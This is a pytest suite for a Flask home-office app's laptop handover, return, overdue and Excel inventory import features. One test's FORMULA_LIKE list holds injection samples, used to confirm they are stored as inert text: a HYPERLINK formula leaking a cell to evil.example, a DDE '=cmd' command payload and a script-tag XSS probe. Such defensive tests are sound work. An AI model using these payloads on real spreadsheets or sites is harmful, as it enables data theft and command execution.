"""Laptop handovers, returns, overdue list and the inventory import through the pages."""

from __future__ import annotations

import re
import threading
from datetime import date, datetime, timedelta
from io import BytesIO

import pytest
from flask_babel import gettext
from markupsafe import escape
from openpyxl import Workbook
from sqlmodel import func, select

from homeoffice.agreements.models import Agreement, HomeOfficeRequest
from homeoffice.audit.models import AuditEvent
from homeoffice.db import session_scope
from homeoffice.devices import services
from homeoffice.devices.models import Device, Handover
from homeoffice.directory.local import LocalDirectory
from homeoffice.directory.models import (
    LocalDirectoryGroup,
    LocalDirectoryMembership,
    LocalDirectoryUser,
)
from homeoffice.people.models import Person
from homeoffice.people.services import sync_people
from homeoffice.tasks.models import ItTask
from tests.agreement_helpers import agreement_of, decide, load, post_request, request_id_from
from tests.conftest import (
    BASE,
    PEOPLE,
    ROLE_GROUPS,
    AuthActions,
    count_queries,
    csrf_token,
    password_hash,
)

TODAY = date.today()


# --- helpers --------------------------------------------------------------------------


def german(app, msgid: str, **values) -> str:
    """A message as a German page shows it (HTML-escaped), whether or not the catalogue
    has its translation yet: the assertion follows the catalogue."""
    with app.test_request_context(headers={"Accept-Language": "de"}):
        return str(escape(gettext(msgid, **values)))


def _switch(client, auth, role):
    client.post("/logout", data={"csrf_token": csrf_token(client, "/")})
    auth.login(role)


def approved_agreement(app, client, auth, key: str, **overrides):
    """An active agreement of a person without a manager (HR decides directly)."""
    auth.login(key)
    request_id = request_id_from(post_request(client, **overrides))
    _switch(client, auth, "hr")
    assert decide(client, request_id).status_code == 302
    client.post("/logout", data={"csrf_token": csrf_token(client, "/")})
    return agreement_of(app, key)


def add_device(app, asset_tag="NB-0001", serial="SN-0001", state="in_stock") -> int:
    with app.app_context(), session_scope() as session:
        device = Device(
            asset_tag=asset_tag, serial_number=serial, model="ThinkPad T14", state=state
        )
        session.add(device)
        session.flush()
        return device.id


def person_id(app, key: str) -> int:
    with app.app_context(), session_scope() as session:
        return session.exec(select(Person.id).where(Person.username == PEOPLE[key][0])).one()


def hand_over(client, device_id, who, on=None, accessories="Tasche, Netzteil", token=None):
    token = token or csrf_token(client, f"/devices/{device_id}")
    return client.post(
        f"/devices/{device_id}/hand-over",
        data={
            "person": who,
            "accessories": accessories,
            "handed_over_on": (on or TODAY).isoformat(),
            "csrf_token": token,
        },
    )


def handover_id_from(response) -> int:
    match = re.search(r"/devices/handovers/(\d+)", response.location or "")
    assert match, response.get_data(as_text=True)[:3000]
    return int(match.group(1))


def workbook(rows) -> BytesIO:
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    data = BytesIO()
    book.save(data)
    data.seek(0)
    return data


def upload(client, data: BytesIO, name="geraete.xlsx"):
    token = csrf_token(client, "/devices/import")
    return client.post(
        "/devices/import",
        data={"file": (data, name), "csrf_token": token},
        content_type="multipart/form-data",
    )


def devices_by_tag(app) -> dict[str, Device]:
    with app.app_context(), session_scope() as session:
        return {d.asset_tag: d for d in session.exec(select(Device)).all()}


# --- handover, confirmation, return ---------------------------------------------------


def test_hand_over_confirm_and_take_back(app, client, auth):
    agreement = approved_agreement(app, client, auth, "outsider")
    device_id = add_device(app)
    auth.login("it")
    response = hand_over(client, device_id, "o.weiss")
    assert response.status_code == 302
    handover_id = handover_id_from(response)

    handover = load(app, Handover, handover_id)
    assert handover.person_id == person_id(app, "outsider")
    assert handover.agreement_id == agreement.id
    assert handover.expected_return is None  # the agreement runs until revoked
    assert handover.accessories == "Tasche, Netzteil"
    assert handover.handed_over_by_id == person_id(app, "it")
    assert load(app, Device, device_id).state == "issued"
    with app.app_context(), session_scope() as session:
        (task,) = session.exec(select(ItTask).where(ItTask.kind == "issue_laptop")).all()
        assert task.state == "done" and task.done_at and task.done_by_id == person_id(app, "it")
        (event,) = session.exec(
            select(AuditEvent).where(AuditEvent.action == "device.handed_over")
        ).all()
        assert event.actor_name == "i.roth" and event.object_id == str(handover_id)
        assert event.before["device_state"] == "in_stock"
        assert event.after["device_state"] == "issued"
        assert event.after["tasks"] == {str(task.id): "done"}
    record = client.get(f"/devices/handovers/{handover_id}").get_data(as_text=True)
    assert "NB-0001" in record and "Otto Weiß" in record and "Tasche, Netzteil" in record
    assert "Ich bestätige" not in record and german(app, "I confirm the receipt") not in record

    _switch(client, auth, "outsider")
    mine = client.get("/devices/mine").get_data(as_text=True)
    assert "NB-0001" in mine and german(app, "I confirm the receipt") in mine
    token = csrf_token(client, "/devices/mine")
    confirmed = client.post(f"/devices/handovers/{handover_id}/confirm", data={"csrf_token": token})
    assert confirmed.status_code == 302
    first = load(app, Handover, handover_id).confirmed_at
    assert first is not None
    client.post(f"/devices/handovers/{handover_id}/confirm", data={"csrf_token": token})
    assert load(app, Handover, handover_id).confirmed_at == first  # once
    printed = client.get(f"/devices/handovers/{handover_id}/print").get_data(as_text=True)
    assert "Übergabeprotokoll" in printed and "signature-line" in printed

    # HR revokes: the return is due; IT takes the laptop back and the task is done.
    _switch(client, auth, "hr")
    path = f"/homeoffice/agreements/{agreement.id}"
    token = csrf_token(client, path)
    client.post(f"{path}/revoke", data={"reason": "Stelle gewechselt", "csrf_token": token})
    _switch(client, auth, "it")
    response = client.post(
        f"/devices/handovers/{handover_id}/take-back",
        data={
            "returned_on": TODAY.isoformat(),
            "note": "Tastatur abgenutzt",
            "csrf_token": csrf_token(client, f"/devices/{device_id}"),
        },
    )
    assert response.status_code == 302
    handover = load(app, Handover, handover_id)
    assert handover.returned_on == TODAY and handover.return_note == "Tastatur abgenutzt"
    assert handover.returned_to_id == person_id(app, "it")
    assert load(app, Device, device_id).state == "in_stock"
    with app.app_context(), session_scope() as session:
        (task,) = session.exec(select(ItTask).where(ItTask.kind == "return_laptop")).all()
        assert task.state == "done" and task.done_by_id == person_id(app, "it")
        actions = [e.action for e in session.exec(select(AuditEvent))]
        assert "handover.confirmed" in actions and "device.taken_back" in actions
    again = client.post(
        f"/devices/handovers/{handover_id}/take-back",
        data={"returned_on": TODAY.isoformat(), "csrf_token": csrf_token(client, "/devices/")},
    )
    assert again.status_code == 409
    assert german(app, "This device has already been returned.") in again.get_data(as_text=True)


def test_take_back_into_repair(app, client, auth):
    agreement_for(app, "outsider")
    device_id = add_device(app)
    auth.login("it")
    handover_id = handover_id_from(hand_over(client, device_id, "o.weiss"))
    client.post(
        f"/devices/handovers/{handover_id}/take-back",
        data={
            "returned_on": TODAY.isoformat(),
            "repair": "y",
            "csrf_token": csrf_token(client, f"/devices/{device_id}"),
        },
    )
    assert load(app, Device, device_id).state == "in_repair"


def test_others_cannot_see_or_confirm_a_handover(app, client, auth):
    agreement_for(app, "outsider")
    device_id = add_device(app)
    auth.login("it")
    handover_id = handover_id_from(hand_over(client, device_id, "o.weiss"))
    for intruder in ("colleague", "supervisor", "facility"):
        _switch(client, auth, intruder)
        record = f"/devices/handovers/{handover_id}"
        for path in (record, f"{record}/print"):
            assert client.get(path).status_code == 404, (intruder, path)
        token = csrf_token(client, "/devices/mine")
        response = client.post(
            f"/devices/handovers/{handover_id}/confirm", data={"csrf_token": token}
        )
        assert response.status_code == 404, intruder
        assert "NB-0001" not in client.get("/devices/mine").get_data(as_text=True)
    assert load(app, Handover, handover_id).confirmed_at is None


def test_it_sees_the_record_but_cannot_confirm_for_the_person(app, client, auth):
    agreement_for(app, "outsider")
    device_id = add_device(app)
    auth.login("it")
    handover_id = handover_id_from(hand_over(client, device_id, "o.weiss"))
    token = csrf_token(client, f"/devices/handovers/{handover_id}")
    response = client.post(f"/devices/handovers/{handover_id}/confirm", data={"csrf_token": token})
    assert response.status_code == 403
    assert load(app, Handover, handover_id).confirmed_at is None


def test_an_issued_laptop_cannot_be_handed_over_again(app, client, auth):
    agreement_for(app, "outsider")
    agreement_for(app, "facility")
    device_id = add_device(app)
    auth.login("it")
    assert hand_over(client, device_id, "o.weiss").status_code == 302
    # the form is gone from the page of an issued laptop; a stale form still posts
    second = hand_over(client, device_id, "f.horn", token=csrf_token(client, "/devices/"))
    assert second.status_code == 409
    assert german(app, "The device is not in stock.") in second.get_data(as_text=True)
    # nor does one person get a second laptop while holding one
    other = add_device(app, "NB-0002", "SN-0002")
    third = hand_over(client, other, "o.weiss")
    assert third.status_code == 409
    assert german(
        app,
        "%(name)s already has the laptop %(asset_tag)s. Please take it back first.",
        name="Otto Weiß",
        asset_tag="NB-0001",
    ) in third.get_data(as_text=True)
    with app.app_context(), session_scope() as session:
        handovers = session.exec(select(Handover)).all()
    assert [h.person_id for h in handovers] == [person_id(app, "outsider")]
    assert load(app, Device, other).state == "in_stock"


def test_handover_needs_a_current_agreement_with_a_laptop(app, client, auth):
    agreement_for(app, "facility", wants_laptop=False)
    agreement_for(app, "it")
    device_id = add_device(app)
    auth.login("it")
    cases = [
        ("e.kaya", "%(name)s has no current home-office agreement.", {"name": "Emre Kaya"}),
        (
            "f.horn",
            "The home-office agreement of %(name)s does not include a laptop.",
            {"name": "Falk Horn"},
        ),
        ("nobody", "Nobody with this user name or staff number was found.", {}),
        # the test directory gives five people staff number 109
        (
            "109",
            "Several people have this staff number. Please enter the user name instead.",
            {},
        ),
        ("i.roth", "You cannot hand a device to yourself. Please ask a colleague from IT.", {}),
    ]
    for who, msgid, values in cases:
        response = hand_over(client, device_id, who)
        assert response.status_code == 409, who
        assert german(app, msgid, **values) in response.get_data(as_text=True), who
    assert load(app, Device, device_id).state == "in_stock"
    # a staff number that only one person has is enough
    agreement_for(app, "colleague")
    response = hand_over(client, device_id, "113")
    assert response.status_code == 302
    assert load(app, Handover, handover_id_from(response)).person_id == person_id(app, "colleague")


def test_handover_form_errors_are_shown_next_to_the_field(app, client, auth):
    device_id = add_device(app)
    auth.login("it")
    response = hand_over(client, device_id, "", on=TODAY + timedelta(days=3))
    assert response.status_code == 400
    html = response.get_data(as_text=True)
    assert german(app, "Please enter the user name or the staff number.") in html
    assert german(app, "The handover date cannot be in the future.") in html
    assert 'aria-invalid="true"' in html


def test_posting_state_or_ids_changes_nothing_else(app, client, auth):
    agreement_for(app, "outsider")
    device_id = add_device(app)
    auth.login("it")
    token = csrf_token(client, f"/devices/{device_id}")
    response = client.post(
        f"/devices/{device_id}/hand-over",
        data={
            "person": "o.weiss",
            "handed_over_on": TODAY.isoformat(),
            "expected_return": "2000-01-01",
            "confirmed_at": "2000-01-01T00:00:00",
            "handed_over_by_id": str(person_id(app, "admin")),
            "state": "retired",
            "csrf_token": token,
        },
    )
    handover = load(app, Handover, handover_id_from(response))
    assert handover.expected_return is None and handover.confirmed_at is None
    assert handover.handed_over_by_id == person_id(app, "it")
    assert load(app, Device, device_id).state == "issued"


def test_overdue_list_shows_passed_expected_returns(app, client, auth):
    agreement_for(app, "outsider", end_date=TODAY + timedelta(days=30))
    agreement_for(app, "facility")
    late, fine = add_device(app, "NB-LATE", "SN-1"), add_device(app, "NB-FINE", "SN-2")
    auth.login("it")
    late_id = handover_id_from(hand_over(client, late, "o.weiss"))
    handover_id_from(hand_over(client, fine, "f.horn"))
    assert load(app, Handover, late_id).expected_return == TODAY + timedelta(days=30)
    html = client.get("/devices/overdue").get_data(as_text=True)
    assert "NB-LATE" not in html and german(app, "No returns are overdue.") in html
    with app.app_context(), session_scope() as session:
        session.get(Handover, late_id).expected_return = TODAY - timedelta(days=3)
    html = client.get("/devices/overdue").get_data(as_text=True)
    assert "NB-LATE" in html and "Otto Weiß" in html and "NB-FINE" not in html
    with app.app_context(), session_scope() as session:
        rows = services.overdue(session, TODAY)
        assert [(h.id, p.username, d.asset_tag) for h, p, d in rows] == [
            (late_id, "o.weiss", "NB-LATE")
        ]
        assert services.overdue(session, TODAY - timedelta(days=3)) == []


def test_unique_index_is_the_last_line_of_defence_and_the_session_survives(app):
    """A device marked in stock that still has an open handover (damaged data): the
    insert fails on the index, the service refuses, and the session goes on working."""
    device_id = add_device(app)
    with app.app_context(), session_scope() as session:
        outsider = session.exec(select(Person).where(Person.username == "o.weiss")).one()
        session.add(
            Handover(
                device_id=device_id,
                person_id=outsider.id,
                handed_over_on=TODAY,
                handed_over_by_id=outsider.id,
            )
        )
    with app.test_request_context(headers={"Accept-Language": "de"}):
        with session_scope() as session:
            clerk = session.exec(select(Person).where(Person.username == "i.roth")).one()
            person = session.exec(select(Person).where(Person.username == "f.horn")).one()
            agreement = _agreement_in_session(session, person)
            with pytest.raises(services.DeviceError) as refused:
                services.hand_over(
                    session=session,
                    device_id=device_id,
                    person=person,
                    agreement=agreement,
                    by=clerk,
                    accessories=None,
                    on=TODAY,
                )
            assert str(escape(refused.value.message)) == german(
                app,
                "Another handover of this device was recorded at the same moment. "
                "Please reload the page.",
            )
            assert session.get(Device, device_id).state == "in_stock"
            assert session.exec(select(func.count()).select_from(Handover)).one() == 1
            session.add(Device(asset_tag="NB-0002", serial_number="SN-0002", model="T14"))
            session.flush()  # still usable
    assert "NB-0002" in devices_by_tag(app)


def _agreement_in_session(session, person, *, end_date=None, wants_laptop=True):
    """An active agreement as HR's approval leaves it, with its open laptop task."""
    request = HomeOfficeRequest(
        person_id=person.id,
        state="approved",
        pattern="share",
        share_percent=40,
        start_date=TODAY,
        end_date=end_date,
        wants_laptop=wants_laptop,
    )
    session.add(request)
    session.flush()
    agreement = Agreement(
        person_id=person.id,
        request_id=request.id,
        state="active",
        start_date=TODAY,
        end_date=end_date,
        pattern="share",
        share_percent=40,
        days_per_week=2,
        rule_set="ordinary@1",
    )
    session.add(agreement)
    session.flush()
    if wants_laptop:
        session.add(ItTask(agreement_id=agreement.id, person_id=person.id, kind="issue_laptop"))
        session.flush()
    return agreement


def agreement_for(app, key: str, **kwargs) -> int:
    """A quick active agreement, for tests whose subject is not the approval itself."""
    with app.app_context(), session_scope() as session:
        person = session.exec(select(Person).where(Person.username == PEOPLE[key][0])).one()
        return _agreement_in_session(session, person, **kwargs).id


# --- import ---------------------------------------------------------------------------

HEADER_DE = ["Inventarnummer", "Seriennummer", "Modell", "Kaufdatum", "Zustand", "Notizen"]


def test_import_creates_and_updates_devices(app, client, auth):
    add_device(app, "NB-0001", "SN-0001")
    auth.login("it")
    response = upload(
        client,
        workbook(
            [
                HEADER_DE,
                ["NB-0001", "SN-0001", "ThinkPad T14 Gen 3", "01.02.2023", "in Reparatur", None],
                ["NB-0002", 4711, "Latitude 5440", datetime(2024, 3, 5), None, "Lager 2"],
                [],
                ["NB-0003", "SN-0003", "EliteBook 840", None, "in stock", None],
            ]
        ),
    )
    assert response.status_code == 302, response.get_data(as_text=True)[:3000]
    flashed = client.get(response.location).get_data(as_text=True)
    assert (
        german(
            app,
            "%(created)d devices created, %(updated)d updated, %(unchanged)d unchanged.",
            created=2,
            updated=1,
            unchanged=0,
        )
        in flashed
    )
    devices = devices_by_tag(app)
    assert devices["NB-0001"].model == "ThinkPad T14 Gen 3"
    assert devices["NB-0001"].purchase_date == date(2023, 2, 1)
    assert devices["NB-0001"].state == "in_repair"
    assert devices["NB-0002"].serial_number == "4711"
    assert devices["NB-0002"].purchase_date == date(2024, 3, 5)
    assert devices["NB-0002"].state == "in_stock" and devices["NB-0002"].notes == "Lager 2"
    assert devices["NB-0003"].purchase_date is None
    with app.app_context(), session_scope() as session:
        (event,) = session.exec(
            select(AuditEvent).where(AuditEvent.action == "devices.imported")
        ).all()
    assert event.after == {
        "file": "geraete.xlsx",
        "rows": 3,
        "created": 2,
        "updated": 1,
        "unchanged": 0,
    }


def test_english_headers_work_too(app, client, auth):
    auth.login("it")
    response = upload(
        client,
        workbook([["Asset tag", "Serial number", "Model"], ["NB-9", "SN-9", "T14"]]),
    )
    assert response.status_code == 302
    assert devices_by_tag(app)["NB-9"].model == "T14"


def test_import_with_one_bad_row_changes_nothing_and_names_the_rows(app, client, auth):
    add_device(app, "NB-0001", "SN-0001")
    add_device(app, "NB-0500", "SN-0500")
    before = {tag: (d.model, d.state) for tag, d in devices_by_tag(app).items()}
    auth.login("it")
    response = upload(
        client,
        workbook(
            [
                HEADER_DE,
                ["NB-0001", "SN-0001", "Neues Modell", None, None, None],  # 2: fine
                ["NB-0002", "SN-0002", "Latitude", None, None, None],  # 3: fine
                ["NB-0003", None, "Latitude", None, None, None],  # 4: serial missing
                ["NB-0004", "SN-0004", "Latitude", "31.02.2024", None, None],  # 5: no date
                ["NB-0005", "SN-0005", "Latitude", None, "verschenkt", None],  # 6: state
                ["NB-0002", "SN-0006", "Latitude", None, None, None],  # 7: tag twice
                ["NB-0007", "SN-0500", "Latitude", None, None, None],  # 8: serial of NB-0500
                ["NB-0008", "SN-0008", "Latitude", None, "ausgegeben", None],  # 9: issued
            ]
        ),
    )
    assert response.status_code == 400
    html = response.get_data(as_text=True)
    errors = re.search(r'<ul id="import-errors"[^>]*>(.*?)</ul>', html, re.S).group(1)
    expected = [
        (4, "serial number missing", {}),
        (5, "purchase date is not a date (DD.MM.YYYY)", {}),
        (6, "unknown state “%(value)s”", {"value": "verschenkt"}),
        (7, "asset tag %(value)s already appears in row %(row)d", {"value": "NB-0002", "row": 3}),
        (
            8,
            "serial number %(value)s belongs to the device %(asset_tag)s",
            {"value": "SN-0500", "asset_tag": "NB-0500"},
        ),
        (9, "“issued” can only be set by a handover", {}),
    ]
    for row, msgid, values in expected:
        with app.test_request_context(headers={"Accept-Language": "de"}):
            line = gettext("Row %(row)d: %(error)s", row=row, error=gettext(msgid, **values))
        assert str(escape(line)) in errors, line
    assert "Zeile 2" not in errors and "Row 2" not in errors
    assert {tag: (d.model, d.state) for tag, d in devices_by_tag(app).items()} == before
    with app.app_context(), session_scope() as session:
        assert not session.exec(
            select(AuditEvent).where(AuditEvent.action == "devices.imported")
        ).all()


def test_import_cannot_change_the_state_of_an_issued_laptop(app, client, auth):
    add_device(app, "NB-0001", "SN-0001", state="issued")
    auth.login("it")
    response = upload(
        client, workbook([HEADER_DE, ["NB-0001", "SN-0001", "T14", None, "im Lager", None]])
    )
    assert response.status_code == 400
    assert devices_by_tag(app)["NB-0001"].state == "issued"


FORMULA_LIKE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
    "@SUM(A1)",
    "+49 170 1234567",
    "-5 Grad",
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
]


def test_formula_like_cells_are_stored_as_plain_text(app, client, auth):
    auth.login("it")
    rows = [HEADER_DE] + [
        [f"NB-F{n}", f"SN-F{n}", value, None, None, value] for n, value in enumerate(FORMULA_LIKE)
    ]
    response = upload(client, workbook(rows))
    assert response.status_code == 302, response.get_data(as_text=True)[:3000]
    devices = devices_by_tag(app)
    for n, value in enumerate(FORMULA_LIKE):
        assert devices[f"NB-F{n}"].model == value
        assert devices[f"NB-F{n}"].notes == value
    html = client.get("/devices/").get_data(as_text=True)
    assert "<script>alert(1)</script>" not in html and "&lt;script&gt;" in html
    page = client.get(f"/devices/{devices['NB-F1'].id}").get_data(as_text=True)
    assert "evil.example" in page and '<a href="http://evil' not in page


def test_a_formula_in_a_date_cell_is_a_row_error_not_a_crash(app, client, auth):
    auth.login("it")
    rows = [HEADER_DE, ["NB-1", "SN-1", "T14", "=TODAY()", None, None]]
    response = upload(client, workbook(rows))
    assert response.status_code == 400
    assert devices_by_tag(app) == {}


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"not a spreadsheet at all", "geraete.xlsx"),
        (b"PK\x03\x04broken zip", "geraete.xlsx"),
        (b"Inventarnummer;Seriennummer\n", "geraete.csv"),
    ],
)
def test_unreadable_files_are_refused_with_a_message(app, client, auth, content, name):
    auth.login("it")
    response = upload(client, BytesIO(content), name=name)
    assert response.status_code == 400
    html = response.get_data(as_text=True)
    assert (
        german(app, "The file could not be read. Please upload an Excel file (.xlsx).") in html
        or german(app, "Please upload an Excel file (.xlsx).") in html
    )
    assert devices_by_tag(app) == {}


def test_missing_required_column_and_too_many_rows(app, client, auth, monkeypatch):
    auth.login("it")
    response = upload(client, workbook([["Inventarnummer", "Modell"], ["NB-1", "T14"]]))
    assert response.status_code == 400
    assert german(
        app, "the column “%(column)s” is missing", column=german(app, "Serial number")
    ) in response.get_data(as_text=True)
    monkeypatch.setattr(services, "MAX_IMPORT_ROWS", 3)
    rows = [HEADER_DE] + [[f"NB-{n}", f"SN-{n}", "T14"] for n in range(4)]
    response = upload(client, workbook(rows))
    assert response.status_code == 400
    assert german(
        app, "The file has more than %(max)d rows. Please split it.", max=3
    ) in response.get_data(as_text=True)
    assert devices_by_tag(app) == {}


def test_oversized_files_are_refused(app, client, auth, monkeypatch):
    auth.login("it")
    token = csrf_token(client, "/devices/import")
    response = client.post(
        "/devices/import",
        data={"file": (BytesIO(b"0" * (6 * 1024 * 1024)), "gross.xlsx"), "csrf_token": token},
        content_type="multipart/form-data",
    )
    assert response.status_code == 413
    # what the zip would unpack to counts as well ("zip bomb")
    monkeypatch.setattr(services, "MAX_UNPACKED_BYTES", 2000)
    response = upload(client, workbook([HEADER_DE, ["NB-1", "SN-1", "T14"]]))
    assert response.status_code == 400
    assert german(app, "The file is too large.") in response.get_data(as_text=True)
    assert devices_by_tag(app) == {}


# --- access and query counts ----------------------------------------------------------


IT_PAGES = ["/devices/", "/devices/1", "/devices/overdue", "/devices/import"]
IT_POSTS = ["/devices/1/hand-over", "/devices/handovers/1/take-back", "/devices/import"]


def test_only_it_reaches_the_it_pages(app, client, auth):
    add_device(app)
    for role in ("employee", "supervisor", "hr", "facility", "admin"):
        auth.login(role)
        for path in IT_PAGES:
            assert client.get(path).status_code == 403, (role, path)
        token = csrf_token(client, "/devices/mine")
        for path in IT_POSTS:
            assert client.post(path, data={"csrf_token": token}).status_code == 403, (role, path)
        assert client.get("/devices/mine").status_code == 200
        client.post("/logout", data={"csrf_token": token})
    assert load(app, Device, 1).state == "in_stock"


def test_pages_send_a_bounded_number_of_statements(app, client, auth):
    def statements(role, paths):
        auth.login(role)
        counts = {}
        for path in paths:
            with count_queries(app) as counter:
                assert client.get(path).status_code == 200, path
            counts[path] = counter.count
        client.post("/logout", data={"csrf_token": csrf_token(client, "/")})
        return counts

    agreement_for(app, "outsider")
    device_ids = [add_device(app, f"NB-{n}", f"SN-{n}") for n in range(6)]
    auth.login("it")
    first = handover_id_from(hand_over(client, device_ids[0], "o.weiss"))
    client.post(
        f"/devices/handovers/{first}/take-back",
        data={"returned_on": TODAY.isoformat(), "csrf_token": csrf_token(client, "/devices/")},
    )
    hand_over(client, device_ids[0], "o.weiss")
    client.post("/logout", data={"csrf_token": csrf_token(client, "/")})
    paths = {
        "it": ["/devices/", f"/devices/{device_ids[0]}", "/devices/overdue"],
        "outsider": ["/devices/mine", f"/devices/handovers/{first}"],
    }
    small = {role: statements(role, p) for role, p in paths.items()}
    # More handovers of the same device, more open ones of the person, all overdue.
    with app.app_context(), session_scope() as session:
        outsider = session.exec(select(Person).where(Person.username == "o.weiss")).one()
        clerk = session.exec(select(Person).where(Person.username == "i.roth")).one()
        for n in range(20):
            session.add(
                Handover(
                    device_id=device_ids[0],
                    person_id=outsider.id,
                    handed_over_on=TODAY - timedelta(days=100 + n),
                    handed_over_by_id=clerk.id,
                    returned_on=TODAY - timedelta(days=90 + n),
                    returned_to_id=clerk.id,
                )
            )
        for device_id in device_ids[1:]:
            session.add(
                Handover(
                    device_id=device_id,
                    person_id=outsider.id,
                    handed_over_on=TODAY - timedelta(days=10),
                    handed_over_by_id=clerk.id,
                    expected_return=TODAY - timedelta(days=1),
                )
            )
    large = {role: statements(role, p) for role, p in paths.items()}
    assert small == large
    assert max(max(c.values()) for c in large.values()) <= 12, large


# --- two clerks, one laptop (PostgreSQL) ----------------------------------------------


def _second_it_clerk(app) -> str:
    with app.app_context(), session_scope() as session:
        group = session.exec(
            select(LocalDirectoryGroup).where(LocalDirectoryGroup.dn == ROLE_GROUPS["it"])
        ).one()
        user = LocalDirectoryUser(
            username="j.beck",
            dn=f"uid=j.beck,ou=people,{BASE}",
            display_name="Jana Beck",
            unit="IT",
            password_hash=password_hash(),
        )
        session.add(user)
        session.flush()
        session.add(LocalDirectoryMembership(group_id=group.id, user_id=user.id))
        session.flush()
        sync_people(session=session, directory=LocalDirectory(session), role_groups=ROLE_GROUPS)
    return "j.beck"


@pytest.mark.postgres
@pytest.mark.parametrize("database_url", ["postgres"], indirect=True)
def test_two_it_clerks_handing_out_one_laptop_at_once(app, client, auth):
    approved_agreement(app, client, auth, "outsider")
    approved_agreement(app, client, auth, "facility")
    device_id = add_device(app)
    clerks = []
    for username, recipient in (("i.roth", "o.weiss"), (_second_it_clerk(app), "f.horn")):
        c = app.test_client()
        AuthActions(c).login(username)
        clerks.append((c, csrf_token(c, f"/devices/{device_id}"), recipient))
    barrier = threading.Barrier(2)
    results: list[tuple[int, str]] = []

    def act(c, token, recipient):
        barrier.wait()
        response = hand_over(c, device_id, recipient, token=token)
        results.append((response.status_code, response.get_data(as_text=True)))

    threads = [threading.Thread(target=act, args=clerk) for clerk in clerks]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(status for status, _html in results) == [302, 409]
    refusal = next(html for status, html in results if status == 409)
    assert german(app, "The device is not in stock.") in refusal
    with app.app_context(), session_scope() as session:
        handovers = session.exec(select(Handover)).all()
        assert len(handovers) == 1 and handovers[0].returned_on is None
        assert session.get(Device, device_id).state == "issued"
        events = session.exec(
            select(AuditEvent).where(AuditEvent.action == "device.handed_over")
        ).all()
        assert len(events) == 1


def test_laptop_moves_to_the_renewed_agreement_and_is_due_when_revoked(app, client, auth):
    """A change of the agreement keeps the laptop with the new agreement (no second
    hand-out task); a revocation makes it due back today."""
    from datetime import date

    from homeoffice.agreements.models import Agreement
    from homeoffice.devices.models import Handover
    from homeoffice.tasks.models import ItTask
    from tests.agreement_helpers import agreement_of, decide, post_request, request_id_from

    auth.login("outsider")
    first = request_id_from(post_request(client, wants_laptop="y"))
    client.post("/logout", data={"csrf_token": csrf_token(client, "/")})
    auth.login("hr")
    decide(client, first)
    old = agreement_of(app, "outsider")
    with app.app_context(), session_scope() as session:
        device = session.exec(select(Device).where(Device.state == "in_stock")).first()
        if device is None:
            device = Device(asset_tag="NB-R1", serial_number="SR1", model="T14")
            session.add(device)
            session.flush()
        session.add(Handover(device_id=device.id, person_id=old.person_id, agreement_id=old.id,
                             handed_over_on=date.today(), handed_over_by_id=old.person_id,
                             expected_return=None))
        device.state = "issued"
    client.post("/logout", data={"csrf_token": csrf_token(client, "/")})
    auth.login("outsider")
    second = request_id_from(post_request(client, "/homeoffice/requests/new?kind=amendment",
                                          wants_laptop="y", tuesday=None))
    client.post("/logout", data={"csrf_token": csrf_token(client, "/")})
    auth.login("hr")
    decide(client, second)
    new = agreement_of(app, "outsider")
    with app.app_context(), session_scope() as session:
        handover = session.exec(select(Handover)).one()
        assert handover.agreement_id == new.id
        laptop_tasks = session.exec(select(ItTask).where(
            ItTask.kind == "issue_laptop", ItTask.agreement_id == new.id)).all()
        assert laptop_tasks == []
    page = f"/homeoffice/agreements/{new.id}"
    client.post(f"{page}/revoke", data={"reason": "Ende", "csrf_token": csrf_token(client, page)})
    with app.app_context(), session_scope() as session:
        assert session.exec(select(Handover)).one().expected_return == date.today()
        assert session.get(Agreement, new.id).state == "revoked"
